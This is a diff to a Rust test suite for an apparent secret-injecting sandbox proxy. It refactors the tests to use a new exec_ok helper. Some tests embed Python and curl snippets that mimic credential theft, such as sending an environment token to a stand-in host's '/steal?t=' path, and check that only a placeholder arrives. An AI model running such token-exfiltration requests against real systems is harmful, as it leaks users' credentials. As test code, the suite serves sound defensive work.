@@ -204,6 +204,14 @@ fn exec(policy: &std::path::Path, argv: &[&str]) -> Output {
         .unwrap()
 }
 
+/// [`exec`] that must succeed: its output, and that output as text.
+fn exec_ok(policy: &std::path::Path, argv: &[&str]) -> (Output, String) {
+    let out = exec(policy, argv);
+    let all = text(&out);
+    assert!(out.status.success(), "{all}");
+    (out, all)
+}
+
 fn text(o: &Output) -> String {
     format!(
         "{}{}",
@@ -248,10 +256,8 @@ fn python_urllib_sends_the_placeholder_and_the_upstream_gets_the_value() {
         len = VALUE.len(),
         port = up.port
     );
-    let out = exec(&p, &["python3", "-c", &script]);
-    assert!(out.status.success(), "{}", text(&out));
+    let (out, all) = exec_ok(&p, &["python3", "-c", &script]);
     value_stayed_outside(&out, &up);
-    let all = text(&out);
     assert!(all.contains("SHAPE True True"), "{all}");
     // the echo came back as the placeholder the sandbox holds
     assert!(all.contains("you sent: token ghp_"), "{all}");
@@ -338,8 +344,7 @@ fn plain_http_to_the_secrets_host_gets_the_value_in_without_tls() {
          r = urllib.request.Request('http://api.test:{port}/plain', headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
          print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
     );
-    let out = exec(&p, &["python3", "-c", &script]);
-    assert!(out.status.success(), "{}", text(&out));
+    let (out, _) = exec_ok(&p, &["python3", "-c", &script]);
     let got = seen.lock().unwrap().join("\n");
     assert!(
         got.contains(&format!("Authorization: token {VALUE}")),
@@ -371,9 +376,7 @@ fn an_http2_only_client_is_refused_so_no_connection_can_carry_another_authority(
          \x20   print('REFUSED', e.reason)\n",
         port = up.port
     );
-    let out = exec(&p, &["python3", "-c", &script]);
-    let all = text(&out);
-    assert!(out.status.success(), "{all}");
+    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
     assert!(
         all.contains("REFUSED"),
         "an h2-only client got a connection: {all}"
@@ -426,9 +429,7 @@ fn a_server_hunting_for_the_value_finds_only_its_placeholder() {
          print('FOUND' if found else 'NOT FOUND', found)\n\
          print('BUNDLE', os.environ.get('SSL_CERT_FILE'), os.path.exists(os.environ.get('SSL_CERT_FILE', '/nonexistent')))\n"
     );
-    let out = exec(&p, &["python3", "-c", &hunt]);
-    let all = text(&out);
-    assert!(out.status.success(), "{all}");
+    let (_, all) = exec_ok(&p, &["python3", "-c", &hunt]);
     assert!(all.contains("NOT FOUND"), "{all}");
     assert!(
         all.contains("BUNDLE /run/mcpbox/ca-bundle.pem True"),
@@ -452,8 +453,7 @@ fn the_placeholder_sent_to_another_host_arrives_as_the_placeholder_and_is_audite
          r = urllib.request.Request('http://other.test:{other_port}/steal?t=' + os.environ['TOKEN'], headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
          print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
     );
-    let out = exec(&p, &["python3", "-c", &script]);
-    assert!(out.status.success(), "{}", text(&out));
+    exec_ok(&p, &["python3", "-c", &script]);
     let got = other_seen.lock().unwrap().join("\n");
     assert!(got.contains("Authorization: token ghp_"), "{got}");
     assert!(
@@ -495,9 +495,7 @@ fn a_host_header_other_than_the_tls_name_is_refused_and_never_reaches_the_upstre
          print('TWO', re.findall(r'HTTP/1.1 [0-9]{{3}}', r))\n",
         port = up.port
     );
-    let out = exec(&p, &["python3", "-c", &script]);
-    let all = text(&out);
-    assert!(out.status.success(), "{all}");
+    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
     assert!(all.contains("ONE HTTP/1.1 421"), "{all}");
     assert!(
         all.contains("TWO ['HTTP/1.1 200', 'HTTP/1.1 421']"),
@@ -533,10 +531,9 @@ fn a_redirect_to_another_host_carries_only_the_placeholder() {
     let cmd = format!(
         "curl -v -sS --max-time 20 --location-trusted -H \"Authorization: token $TOKEN\" https://api.test:{port}/start"
     );
-    let out = exec(&p, &["sh", "-c", &cmd]);
-    assert!(out.status.success(), "{}", text(&out));
+    let (_, all) = exec_ok(&p, &["sh", "-c", &cmd]);
     let got = other_seen.lock().unwrap().join("\n");
-    assert!(got.contains("GET /landed"), "{got}\n{}", text(&out));
+    assert!(got.contains("GET /landed"), "{got}\n{all}");
     assert!(got.contains("Authorization: token ghp_"), "{got}");
     assert!(
         !got.contains(VALUE),
@@ -876,8 +873,7 @@ fn a_placeholder_in_a_body_becomes_the_value_only_where_the_policy_says_bodies()
     );
     // without `bodies`: the body goes as sent
     let p = policy(&ws, &up, "");
-    let out = exec(&p, &["python3", "-c", &script]);
-    assert!(out.status.success(), "{}", text(&out));
+    exec_ok(&p, &["python3", "-c", &script]);
     let heads = up.heads();
     assert!(
         heads.contains("client_secret=ghp_") && !heads.contains(VALUE),
@@ -886,11 +882,10 @@ fn a_placeholder_in_a_body_becomes_the_value_only_where_the_policy_says_bodies()
     // with `bodies = true`: the value, in a body of the same length
     let secret = format!("{}, bodies = true", env_and_ca(&up.ca_file));
     let p = audited(&ws, &policy_text(up.port, None, &secret));
-    let out = exec(&p, &["python3", "-c", &script]);
-    assert!(out.status.success(), "{}", text(&out));
+    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
     let heads = up.heads();
     assert!(heads.contains(&format!("client_secret={VALUE}")), "{heads}");
-    assert!(!text(&out).contains(VALUE), "{}", text(&out));
+    assert!(!all.contains(VALUE), "{all}");
 }
 
 /// Node's `fetch` reads no proxy variable: a plain `http://` request to the
@@ -905,8 +900,7 @@ fn plain_http_through_the_capture_gets_the_value_in_too() {
     let node = format!(
         "fetch('http://api.test:{port}/n', {{headers: {{authorization: 'token ' + process.env.TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('ERROR', e, e.cause); process.exit(1) }})"
     );
-    let out = exec(&p, &["node", "-e", &node]);
-    assert!(out.status.success(), "{}", text(&out));
+    let (out, _) = exec_ok(&p, &["node", "-e", &node]);
     let got = seen.lock().unwrap().join("\n");
     assert!(
         got.contains(&format!("token {VALUE}")),
